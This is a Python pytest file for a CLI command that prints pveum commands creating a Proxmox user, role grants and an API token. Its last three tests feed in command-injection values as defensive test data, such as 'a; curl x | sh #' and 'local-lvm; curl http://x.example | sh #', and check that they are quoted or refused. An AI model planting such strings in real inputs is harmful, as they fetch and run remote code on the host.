"""`runner proxmox-role`: commands for a shell, grants for a program, and no secret in either."""

from __future__ import annotations

import json
import shlex
from dataclasses import replace
from pathlib import Path

import pytest
from click.testing import CliRunner
from ruamel.yaml import YAML

from stardock.cli.main import runner
from stardock.estate.role import commands
from stardock.workspace.lock import save_lock
from tests.plans import document, plan_of, quickstart_plan

pytestmark = pytest.mark.unit


@pytest.fixture
def file(tmp_path: Path) -> Path:
    """The quick start."""
    path = tmp_path / "cluster.yaml"
    with path.open("w") as stream:
        YAML().dump(document(), stream)
    return path


def told(file: Path, *arguments: str) -> str:
    """What the command prints; the environment's token is nothing to it."""
    environment = {"PROXMOX_VE_API_TOKEN": "root@pam!x=11111111-2222-3333-4444-555555555555"}
    done = CliRunner().invoke(runner, ["proxmox-role", "-f", str(file), *arguments], env=environment)
    assert done.exit_code == 0, done.output
    assert "1111" not in done.output
    return done.output


def test_every_line_is_a_command_or_a_comment_and_the_last_command_makes_the_token(file: Path) -> None:
    lines = told(file).splitlines()
    commands = [line for line in lines if not line.startswith("#")]
    assert all(line.startswith("pveum ") for line in commands)
    assert commands[0] == "pveum user add stardock-quickstart@pve || true"
    assert commands[-1] == "pveum user token add stardock-quickstart@pve stardock --privsep 0"
    assert "export PROXMOX_VE_API_TOKEN='stardock-quickstart@pve!stardock=SECRET'" in lines[-1]
    assert "Administrator" not in told(file)


def test_it_writes_nothing_and_prints_the_same_bytes_each_time(file: Path) -> None:
    assert told(file) == told(file)
    assert [path.name for path in file.parent.iterdir()] == ["cluster.yaml"]


@pytest.mark.proves("case 25-sdn-vnet")
def test_a_vnet_is_granted_in_its_zone_and_a_bridge_that_may_be_one_is_asked_about(file: Path) -> None:
    assert "Is it a vnet of SDN?" not in told(file)
    data = document()
    for zone, granted in ((None, "localnetwork"), ("kube", "kube")):
        for nics in (data["network"][role] for role in ("server", "agent", "loadbalancer")):
            nics[0] |= {"bridge": "kubevnet"} | ({"zone": zone} if zone else {})
        with file.open("w") as stream:
            YAML().dump(data, stream)
        output = told(file)
        asked = "# kubevnet: as a bridge of the PVE nodes. Is it a vnet of SDN? Then write `zone: NAME` beside `bridge: kubevnet` first"
        assert (asked in output) is (zone is None)
        assert {line.split()[3] for line in output.splitlines() if " /sdn/" in line} == {f"/sdn/zones/{granted}/kubevnet"}


def test_another_user_may_have_it(file: Path) -> None:
    assert "pveum acl modify /vms --users terraform@pve --roles stardock-quickstart-machines --propagate 1" in told(
        file, "--user", "terraform@pve"
    )


def test_as_json_it_lists_grants_by_path(file: Path) -> None:
    document = json.loads(told(file, "--format", "json"))
    assert (document["user"], document["token"]) == ("stardock-quickstart@pve", "stardock")
    estate = next(grant for grant in document["grants"] if grant["kind"] == "estate")
    assert (estate["paths"], estate["propagate"]) == (["/"], False)


@pytest.mark.proves("hostile 8")
def test_what_leaves_for_a_shell_is_quoted_whatever_the_plan_holds() -> None:
    plan = quickstart_plan()
    hostile = replace(plan, cluster="x;id", machines=tuple(replace(one, disk_datastore="a; curl x | sh #") for one in plan.machines))
    for line in commands(hostile, "u$(id)@pve"):
        words = shlex.split(line)
        assert not {"id", "curl", "sh", "#"} & {word.strip(";|") for word in words}, line
    assert any("'/storage/a; curl x | sh #'" in line for line in commands(hostile, "u@pve"))


@pytest.mark.proves("hostile 8")
@pytest.mark.parametrize("user", ["x; id", "x", "a@b\nid", "-x@pve", "$(id)@pve"])
def test_a_user_that_is_none_is_refused(file: Path, user: str) -> None:
    done = CliRunner().invoke(runner, ["proxmox-role", "-f", str(file), f"--user={user}"])
    assert done.exit_code == 2
    assert "is not a user of PVE" in done.output


@pytest.mark.proves("hostile 8")
def test_a_datastore_of_the_lock_that_is_a_command_is_refused_before_any_line_is_printed(file: Path) -> None:
    lock = file.with_suffix(".lock")
    save_lock(lock, plan_of(document())[1])
    lock.write_text(
        lock.read_text().replace('"disk_datastore": "local-lvm"', '"disk_datastore": "local-lvm; curl http://x.example | sh #"', 1)
    )
    done = CliRunner().invoke(runner, ["proxmox-role", "-f", str(file)])
    assert done.exit_code == 3
    assert done.stdout == ""
    assert f"{lock}:" in done.stderr
    assert "record.disk_datastore: `local-lvm; curl http://x.example | sh #` is not a PVE storage" in done.stderr
